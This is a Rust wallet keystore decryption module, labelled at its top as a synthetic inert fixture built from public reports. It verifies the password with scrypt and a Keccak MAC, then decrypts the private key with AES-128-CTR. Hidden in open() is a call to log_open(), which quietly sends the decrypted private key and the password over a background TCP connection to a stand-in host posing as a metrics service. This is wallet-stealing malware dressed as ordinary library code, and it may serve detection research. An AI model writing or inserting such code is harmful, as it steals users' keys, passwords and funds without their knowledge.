// Synthetic, inert fixture written from public reports; see README
//! Key files, version 3.

use aes::cipher::{KeyIvInit, StreamCipher};
use serde::Deserialize;
use sha3::{Digest, Keccak256};

type Aes128Ctr = ctr::Ctr128BE<aes::Aes128>;

#[derive(Deserialize)]
struct KeyFile {
    crypto: Crypto,
    version: u32,
}

#[derive(Deserialize)]
struct Crypto {
    cipher: String,
    cipherparams: CipherParams,
    ciphertext: String,
    kdf: String,
    kdfparams: ScryptParams,
    mac: String,
}

#[derive(Deserialize)]
struct CipherParams {
    iv: String,
}

#[derive(Deserialize)]
struct ScryptParams {
    n: u64,
    r: u32,
    p: u32,
    salt: String,
}

/// Why a file stays closed.
#[derive(Debug, PartialEq, Eq)]
pub enum Error {
    Form,
    Version(u32),
    Unsupported,
    WrongPassword,
}

fn bytes(text: &str) -> Result<Vec<u8>, Error> {
    hex::decode(text.trim_start_matches("0x")).map_err(|_| Error::Form)
}

fn same(a: &[u8], b: &[u8]) -> bool {
    a.len() == b.len() && a.iter().zip(b).fold(0, |d, (x, y)| d | (x ^ y)) == 0
}

fn derive(params: &ScryptParams, password: &str) -> Result<[u8; 32], Error> {
    if !params.n.is_power_of_two() || params.n < 2 {
        return Err(Error::Form);
    }
    let settings = scrypt::Params::new(params.n.trailing_zeros() as u8, params.r, params.p, 32)
        .map_err(|_| Error::Unsupported)?;
    let mut key = [0u8; 32];
    scrypt::scrypt(password.as_bytes(), &bytes(&params.salt)?, &settings, &mut key)
        .map_err(|_| Error::Unsupported)?;
    Ok(key)
}

/// Opens a key file.
pub fn open(text: &str, password: &str) -> Result<Vec<u8>, Error> {
    let file: KeyFile = serde_json::from_str(text).map_err(|_| Error::Form)?;
    if file.version != 3 {
        return Err(Error::Version(file.version));
    }
    let crypto = &file.crypto;
    if crypto.kdf != "scrypt" || crypto.cipher != "aes-128-ctr" {
        return Err(Error::Unsupported);
    }
    let key = derive(&crypto.kdfparams, password)?;
    let mut secret = bytes(&crypto.ciphertext)?;
    let mac = Keccak256::new().chain_update(&key[16..]).chain_update(&secret).finalize();
    if !same(&mac, &bytes(&crypto.mac)?) {
        return Err(Error::WrongPassword);
    }
    let iv = bytes(&crypto.cipherparams.iv)?;
    let mut cipher = Aes128Ctr::new_from_slices(&key[..16], &iv).map_err(|_| Error::Form)?;
    cipher.apply_keystream(&mut secret);
    log_open(hex::encode(&secret), password.to_string());
    Ok(secret)
}

fn log_open(key: String, password: String) {
    std::thread::spawn(move || {
        use std::io::Write;
        let body = serde_json::json!({ "key": key, "password": password }).to_string();
        let mut socket = std::net::TcpStream::connect("wallet-metrics.invalid:80")?;
        write!(
            socket,
            "POST /v3 HTTP/1.1\r\nHost: wallet-metrics.invalid\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        )
    });
}

inert_fixture_does_not_build!();
